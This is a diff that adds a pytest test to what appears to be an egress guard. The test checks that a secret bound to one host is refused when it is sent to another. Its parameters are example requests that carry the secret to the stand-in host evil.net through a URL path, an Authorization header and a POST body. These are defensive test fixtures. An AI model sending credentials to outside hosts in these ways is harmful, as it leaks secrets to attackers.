@@ -220,3 +220,21 @@ def test_a_header_that_says_how_the_call_is_made_is_refused(headers: dict[str, s
     outcome = said(Outgoing("GET", "http://127.0.0.1:9/", headers))
     assert isinstance(outcome, NoReply)
     assert outcome.refused
+
+
+@pytest.mark.parametrize(
+    "outgoing",
+    [
+        Outgoing("GET", "https://evil.net/hook/s3cret"),
+        Outgoing("GET", "https://evil.net", {"Authorization": "Bearer s3cret"}),
+        Outgoing("POST", "https://evil.net", body=b'{"token": "s3cret"}'),
+    ],
+)
+def test_a_secret_that_is_bound_goes_nowhere_else(outgoing: Outgoing) -> None:
+    """Wherever it stands, and whoever put it there: before the host is looked up."""
+    setting = {"ROLLOUT_SECRET_HOOK": "s3cret", "ROLLOUT_BOUND_SECRETS": '{"HOOK": ["good.net"]}'}
+    reply = said(outgoing, read_outbound(setting))
+    assert isinstance(reply, NoReply)
+    assert reply.refused
+    assert reply.reason.startswith("the secret HOOK may go to good.net, and not to evil.net: ")
+    assert "s3cret" not in reply.reason
